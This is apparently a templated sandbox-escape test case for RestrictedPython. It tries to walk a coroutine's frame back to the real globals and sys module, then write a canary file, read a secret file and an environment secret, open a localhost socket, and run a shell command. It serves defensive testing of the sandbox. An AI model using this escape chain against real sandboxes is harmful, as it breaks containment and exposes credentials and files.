"""A coroutine's cr_frame, the async twin of the generator frame walk.

Source: RestrictedPython INSPECT_ATTRIBUTES (cr_frame, cr_await, cr_code)
added with the CVE-2023-37271 fix; async def is refused by the transformer.
Tries: create a coroutine, walk cr_frame.f_back to the runtime globals and
claim the canary and the secrets.
"""

# escape-test: {"stage": "gate", "kind": ["compile"]}

async def waiter():
    return 1


def rp_async_coroutine_frame() -> dict:
    pending = waiter()
    frame = pending.cr_frame
    pending.close()
    return claim_namespace(frame.f_back.f_globals)


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken


def claim_namespace(namespace):
    """From a real globals dict to the real sys module."""
    if "sys" in namespace:
        return claim(namespace["sys"])
    loader = namespace["__builtins__"]
    if isinstance(loader, dict):
        return claim(loader["__import__"]("sys"))
    return claim(loader.eval("__import__('sys')"))
